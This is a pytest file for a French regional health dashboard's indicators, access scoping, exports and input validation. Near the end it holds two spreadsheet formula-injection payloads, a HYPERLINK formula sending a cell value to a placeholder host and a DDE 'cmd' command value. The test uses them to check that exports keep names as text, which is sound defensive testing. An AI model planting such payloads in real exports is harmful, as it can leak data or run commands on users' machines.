"""The coverage and activity dashboard: the figures, the statistical secret, the constant number of queries, the
pages and exports, and bad input (French message, 400 or 404, never 500)."""

from __future__ import annotations

import csv
import datetime as dt
import html
import io

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from solidarite.annuaire.models import LieuSolidaire
from solidarite.pilotage import colonnes, indicateurs
from solidarite.pilotage.indicateurs import Filtre
from solidarite.territoire.models import Departement, Epci
from tests.factories import agent_ars, lieu, zone_commune
from tests.pilotage.conftest import OCT, worked_days

pytestmark = pytest.mark.django_db
Q4 = Filtre(du=OCT, au=dt.date(2026, 12, 1))


def _admin() -> Client:
    from django.contrib.auth.models import User

    client = Client()
    client.force_login(User.objects.create_superuser("ministere", "m@sante.gouv.fr", "x"))
    return client


def test_the_figures_of_a_zone_and_their_roll_up(world) -> None:  # type: ignore[no-untyped-def]
    tableau = indicateurs.compute(Q4)
    zone_a = next(z for z in tableau.tables["zones"] if z["zone"] == world["a"].epci.siren)
    assert (
        zone_a["lieux_actifs"] == 1 and zone_a["jours_couverts"] == 12 and zone_a["volontaires_actifs"] == 12
    )
    assert zone_a["jours_necessaires"] == round(250 / 12 * 3)
    assert (zone_a["rdv_reserves"], zone_a["rdv_honores"], zone_a["rdv_absents"]) == (15, 12, 3)
    assert zone_a["creneaux_offerts"] == 12 * 24  # default hours: 24 slots of 20 minutes a day
    assert zone_a["taux_remplissage"] == round(100 * 15 / (12 * 24), 1)
    assert zone_a["delai_premier_creneau"] == indicateurs.FREE_SLOT_HORIZON_DAYS  # no mission ahead
    dept = next(d for d in tableau.tables["departements"] if d["departement"] == world["a"].departement.code)
    assert dept["jours_couverts"] >= 12 and dept["volontaires_inscrits"] >= 12
    october = tableau.tables["mois"][0]
    assert october["mois"] == OCT and october["jours_couverts"] == 14 and october["rdv_reserves"] == 17
    assert tableau.total["jours_couverts"] == 14 and tableau.total["zones"] == len(tableau.tables["zones"])
    # Registered volunteers and open results are states, not split by month: « — », never a 0 that reads as
    # « nobody » (an outside probe, 7 December: every month said 0 volunteers registered beside 14 covered days).
    assert tableau.total["volontaires_inscrits"] >= 14
    for name in indicateurs.NOT_PER_MONTH:
        assert october[name] is None, name
    page = _admin().get("/pilotage/gestion/export/mois.csv?du=2026-10&au=2026-12").content.decode()
    row = dict(zip(*[line.split(",") for line in page.splitlines()[:2]], strict=True))
    assert row["volontaires_inscrits"] == "" and row["resultats_ouverts"] == ""


def test_the_delay_is_the_first_free_slot_seen_from_each_commune_of_the_zone(world) -> None:  # type: ignore[no-untyped-def]
    """A mission on Tuesday 8 December at zone A's lieu: its first slot (8 h 30, Paris) is 3.9 days after the
    clock (Friday 4, 10 h, Paris) from the communes within an hour of it, zone B's included (another region,
    less than 30 km away: a patient crosses the border); a zone far from it, with no lieu of its own within an
    hour that has a free slot, waits the horizon."""
    from solidarite.planning.models import Mission
    from solidarite.rdv import services as rdv
    from solidarite.territoire.models import Departement
    from tests.factories import medecin

    Mission.objects.create(
        medecin=medecin(world["a"]), lieu=world["lieu_a"], date=dt.date(2026, 12, 8), statut="confirmee"
    )
    rdv.forget_lieux()
    tableau = indicateurs.compute(Q4)
    zone_a = next(z for z in tableau.tables["zones"] if z["zone"] == world["a"].epci.siren)
    zone_b = next(z for z in tableau.tables["zones"] if z["zone"] == world["b"].epci.siren)
    near = {world["a"].departement.region_id, world["b"].departement.region_id}
    nearby = set(Departement.objects.filter(region_id__in=near).values_list("code", flat=True))
    far = next(
        z for z in tableau.tables["zones"] if z["departement"] not in nearby and z["lieux_actifs"] == 0
    )
    assert zone_a["delai_premier_creneau"] == 3.9 and zone_b["delai_premier_creneau"] == 3.9
    assert far["delai_premier_creneau"] == indicateurs.FREE_SLOT_HORIZON_DAYS


def test_the_public_tables_mask_cells_under_ten_people(world) -> None:  # type: ignore[no-untyped-def]
    masked = indicateurs.mask(indicateurs.compute(Q4))
    zone_a = next(z for z in masked.tables["zones"] if z["zone"] == world["a"].epci.siren)
    zone_b = next(z for z in masked.tables["zones"] if z["zone"] == world["b"].epci.siren)
    assert zone_a["rdv_reserves"] == 15 and zone_a["rdv_absents"] is None  # 3 people: masked
    assert zone_b["rdv_reserves"] is None and zone_b["taux_remplissage"] is None  # 2 people, and the rate
    assert zone_b["jours_couverts"] == 2  # site-days are not people
    page = Client().get("/pilotage/?du=2026-10&au=2026-12").content.decode()
    assert (
        "&lt; 10" in page and "secret statistique" in page.lower() and "Données de démonstration" not in page
    )
    LieuSolidaire.objects.filter(pk=world["lieu_b"].pk).update(demonstration=True)
    assert (
        "Données de démonstration" in Client().get("/pilotage/").content.decode()
    )  # synthetic rows are said


def test_the_number_of_queries_does_not_depend_on_the_number_of_zones(world) -> None:  # type: ignore[no-untyped-def]
    with CaptureQueriesContext(connection) as before:
        indicateurs.compute(Q4)
    for rank in (3, 4, 5):
        worked_days(lieu(zone_commune(rank)), world["days"][:3], seen=1)
    with CaptureQueriesContext(connection) as after:
        tableau = indicateurs.compute(Q4)
    assert sum(1 for z in tableau.tables["zones"] if z["jours_couverts"]) >= 4
    assert len(after.captured_queries) == len(before.captured_queries)


def test_the_zones_kept_in_the_process_follow_a_reload(world, settings, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    """An outside probe (7 December): the zones were kept per process by their SIRENs alone, so an EPCI renamed by
    a reload of the territory kept its old name on every page and in the open data until the server restarted."""
    from django.db.models import F

    from solidarite.zonage import services as zonage

    settings.SOLIDARITE_PILOTAGE_TTL_S = 60
    campagne = zonage.active_campaign()
    epci = world["a"].epci
    before = indicateurs.zones(campagne)[epci.pk]
    Epci.objects.filter(pk=epci.pk).update(nom="CC renommée au rechargement")  # bulk, as load_territoire
    assert indicateurs.zones(campagne)[epci.pk]["nom"] == "CC renommée au rechargement"
    row = next(z for z in indicateurs.compute(Q4).tables["zones"] if z["zone"] == epci.siren)
    assert row["nom"] == "CC renommée au rechargement"
    # A population the key does not see is read again after the dashboard's delay.
    from solidarite.territoire.models import Commune

    Commune.objects.filter(pk=world["a"].pk).update(population=F("population") + 1000)
    assert indicateurs.zones(campagne)[epci.pk]["population"] == before["population"]
    later = indicateurs._clock() + 61
    monkeypatch.setattr(indicateurs, "_clock", lambda: later)
    assert indicateurs.zones(campagne)[epci.pk]["population"] == before["population"] + 1000


def test_compensation_paid_then_contested_is_still_paid(world) -> None:  # type: ignore[no-untyped-def]
    """An outside probe (7 December): a paid statement contested by its volunteer left « indemnités validées » and
    « payées » (only validé, transmis, payé were read) though the CPAM had paid it; counted by hand here."""
    from decimal import Decimal

    from solidarite.indemnisation import services
    from solidarite.indemnisation.models import Releve
    from tests.factories import compte, jour_realise, medecin

    place = world["lieu_a"]
    agent = agent_ars(place.commune.departement.region.code)
    docs = [medecin(place.commune) for _ in range(3)]
    for doc, nature in zip(docs, ("journee", "demi_journee", "journee"), strict=True):
        jour_realise(doc, place, dt.date(2026, 10, 20), nature)
    services.construire_mois(OCT, today=dt.date(2026, 12, 4))
    ids = list(Releve.objects.order_by("pk").values_list("pk", flat=True))
    services.avancer(ids, "valider", agent)
    services.avancer(ids[:2], "transmettre", agent)
    services.avancer(ids[:1], "payer", agent)
    paid = Releve.objects.get(pk=ids[0])
    services.contester(paid, compte(paid.medecin), "Il manque une journée de mission au relevé")
    services.contester(
        Releve.objects.get(pk=ids[2]), compte(Releve.objects.get(pk=ids[2]).medecin), "Montant faux ce mois"
    )
    total = indicateurs.compute(Q4).total
    assert total["indemnites_validees"] == float(
        sum(Releve.objects.values_list("total", flat=True), Decimal(0))
    )
    assert total["indemnites_payees"] == float(paid.total) == 200.0


def test_an_ars_agent_filtering_a_departement_sees_its_region_s_statements_only(world) -> None:  # type: ignore[no-untyped-def]
    """An outside probe (7 December): with its region and one of its départements, an ARS read the amounts of every
    statement paid by that département's CPAM, those validated by another region's ARS included. Since the review
    of 7 December (ADR 0018), the money is counted at the lieu of the day, as everything else: the ministry reads
    it in zone B's département, not in the one of the CPAM that pays it."""
    from solidarite.indemnisation import services
    from solidarite.indemnisation.models import Releve
    from tests.factories import jour_realise, medecin

    dept_a = world["a"].departement
    doc = medecin(world["a"])  # lives in zone A's département, works at zone B's lieu (another region)
    jour_realise(doc, world["lieu_b"], dt.date(2026, 10, 20))
    services.construire_mois(OCT, today=dt.date(2026, 12, 4))
    services.avancer(
        list(Releve.objects.values_list("pk", flat=True)),
        "valider",
        agent_ars(world["b"].departement.region.code),
    )
    national = indicateurs.compute(Filtre(du=OCT, au=dt.date(2026, 12, 1), departement=dept_a.code))
    assert national.total["indemnites_validees"] == 0.0  # its CPAM pays, but the day was not worked there
    dept_b = world["b"].departement.code
    worked = indicateurs.compute(Filtre(du=OCT, au=dt.date(2026, 12, 1), departement=dept_b))
    assert worked.total["indemnites_validees"] == 200.0
    region_a = dept_a.region.code
    ars = indicateurs.compute(
        Filtre(du=OCT, au=dt.date(2026, 12, 1), region=region_a, departement=dept_a.code)
    )
    assert ars.total["indemnites_validees"] == 0.0
    client = Client()
    client.force_login(agent_ars(region_a))
    text = client.get(f"/pilotage/gestion/export/mois.csv?du=2026-10&au=2026-10&departement={dept_a.code}")
    assert next(csv.DictReader(io.StringIO(text.content.decode())))["indemnites_validees"] == "0.00"


def test_an_ars_agent_sees_its_region_only(world) -> None:  # type: ignore[no-untyped-def]
    region_a, region_b = world["a"].departement.region, world["b"].departement.region
    client = Client()
    client.force_login(agent_ars(region_a.code))
    page = client.get("/pilotage/gestion/?du=2026-10&au=2026-12")
    assert page.status_code == 200
    text = html.unescape(page.content.decode())  # a name may hold an apostrophe (« CC Montagne d'Ardèche »)
    assert world["a"].epci.nom in text and world["b"].epci.nom not in text
    assert client.get(f"/pilotage/gestion/?region={region_b.code}").status_code == 404
    assert client.get(f"/pilotage/gestion/?zone={world['b'].epci.siren}").status_code == 404
    csv_text = client.get("/pilotage/gestion/export/zones.csv?du=2026-10&au=2026-12").content.decode()
    assert world["a"].epci.siren in csv_text and world["b"].epci.siren not in csv_text


def test_the_lead_sentence_names_the_period_and_the_territory_in_french(world) -> None:  # type: ignore[no-untyped-def]
    """The review of 7 December: the Guyane agent read « Du juillet 2026 à décembre 2026, région 03 », and the
    public page « Du juillet ». The period with « de » elided before a vowel, the territory by its name."""

    def lead(client: Client, url: str) -> str:
        page = html.unescape(client.get(url).content.decode())
        return " ".join(page.split('<p class="fr-text--lead">')[1].split("\n")[0].split())

    guyane = Client()
    guyane.force_login(agent_ars("03"))
    assert lead(guyane, "/pilotage/gestion/") == "De juillet 2026 à décembre 2026, Guyane."
    assert lead(Client(), "/pilotage/") == "De juillet 2026 à décembre 2026, France entière."
    region = world["a"].departement.region
    assert lead(Client(), f"/pilotage/?du=2026-04&au=2026-06&region={region.code}") == (
        f"D'avril 2026 à juin 2026, {region.nom}."
    )
    dept = world["a"].departement
    assert lead(_admin(), f"/pilotage/gestion/?du=2026-08&au=2026-10&departement={dept.code}") == (
        f"D'août 2026 à octobre 2026, {dept.nom} ({dept.code})."
    )
    epci = world["a"].epci
    assert lead(Client(), f"/pilotage/?du=2026-10&au=2026-10&zone={epci.siren}") == (
        f"En octobre 2026, zone {epci.nom} ({epci.siren})."
    )


def test_exports_of_every_table_as_csv_and_xlsx(world) -> None:  # type: ignore[no-untyped-def]
    client = _admin()
    for niveau in colonnes.LEVELS:
        response = client.get(f"/pilotage/gestion/export/{niveau}.csv?du=2026-10&au=2026-12")
        header = response.content.decode().splitlines()[0].split(",")
        assert response.status_code == 200 and header == [c.name for c in colonnes.columns(niveau)]
        response = client.get(f"/pilotage/export/{niveau}.xlsx?du=2026-10&au=2026-12")
        sheet = load_workbook(io.BytesIO(response.content)).active
        assert sheet is not None and sheet.max_row >= 2
    zones = Client().get("/pilotage/zones.geojson?du=2026-10&au=2026-12").json()
    props = next(
        f["properties"] for f in zones["features"] if f["properties"]["zone"] == world["a"].epci.siren
    )
    assert props["jours_couverts"] == 12 and "rdv_reserves" not in props


FORMULA_NAME = '=HYPERLINK("http://exemple.invalid/?x="&A2,"Moreau")'
FORMULA_DEPARTEMENT = "@SUM(1+1)*cmd|' /C calc'!A0"


def test_a_name_written_as_a_formula_stays_a_text_in_the_exports(world) -> None:  # type: ignore[no-untyped-def]
    """The probe of 6 December: the names of the tables (a zone's, a department's, from the data files or the
    admin) were written as they are, a name « =HYPERLINK(…) » a live formula in the XLSX. Now a text cell, and an
    apostrophe in the CSV; the figures stay numbers."""
    Epci.objects.filter(pk=world["a"].epci.pk).update(nom=FORMULA_NAME)
    Departement.objects.filter(pk=world["a"].departement.pk).update(nom=FORMULA_DEPARTEMENT)
    client = _admin()
    for niveau, name in (("zones", FORMULA_NAME), ("departements", FORMULA_DEPARTEMENT)):
        url = f"/pilotage/export/{niveau}.xlsx?du=2026-10&au=2026-12"
        cells = [c for row in load_workbook(io.BytesIO(client.get(url).content)).active for c in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"], niveau
        assert [(c.value, c.data_type) for c in cells if c.value == name] == [(name, "s")], niveau
        assert any(c.data_type == "n" and c.value for c in cells), niveau  # the figures are numbers
        text = client.get(f"/pilotage/gestion/export/{niveau}.csv?du=2026-10&au=2026-12").content.decode()
        rows = list(csv.DictReader(io.StringIO(text)))
        assert ["'" + name] == [r["nom"] for r in rows if name in r["nom"]], niveau


@pytest.mark.parametrize(
    ("query", "status", "message"),
    [
        ("du=2026-12&au=2026-10", 400, "Période inversée"),
        ("du=2026-10", 400, "Période ouverte"),
        ("au=2026-10", 400, "Période ouverte"),
        ("du=2026-1O&au=2026-12", 400, "pas un mois valide"),
        ("du=٢٠٢٦-١٠&au=2026-12", 400, "pas un mois valide"),  # Arabic-Indic digits: were read as 2026-10
        ("du=2025-01&au=2025-06", 400, "Les indicateurs commencent en 07/2025"),
        ("du=2000-01&au=2001-12", 400, "Les indicateurs commencent en 07/2025"),
        ("du=2026-10&au=2099-12", 400, "est trop lointain"),
        ("du=9999-12&au=9999-12", 400, "pas un mois valide"),
        ("region=99", 404, "Région inconnue"),
        ("departement=9Z", 404, "Département inconnu"),
        ("zone=200000000", 404, "Zone inconnue"),
        ("region=11&departement=15", 404, "n&#x27;est pas dans la région"),
    ],
)
def test_bad_input_is_a_french_4xx(db, query: str, status: int, message: str) -> None:  # type: ignore[no-untyped-def]
    for path in ("/pilotage/", "/pilotage/export/zones.csv", "/pilotage/zones.geojson"):
        response = Client().get(f"{path}?{query}")
        assert response.status_code == status, path
        assert message in response.content.decode(), path
    assert Client().get("/pilotage/export/zones.pdf").status_code == 404


def test_the_cached_aggregates_keep_public_and_gestion_apart(world) -> None:  # type: ignore[no-untyped-def]
    from django.core.cache import cache
    from django.test import override_settings

    cache.clear()
    try:
        with override_settings(SOLIDARITE_PILOTAGE_TTL_S=60):
            admin = _admin().get("/pilotage/gestion/?du=2026-10&au=2026-12").content.decode()
            public = Client().get("/pilotage/?du=2026-10&au=2026-12").content.decode()
            assert (
                "<td>&lt; 10</td>" not in admin and "<td>&lt; 10</td>" in public
            )  # unmasked tables never reach the public
            geojson = Client().get("/pilotage/zones.geojson?du=2026-10&au=2026-12")
            assert geojson.status_code == 200 and geojson.json()["type"] == "FeatureCollection"
    finally:
        cache.clear()
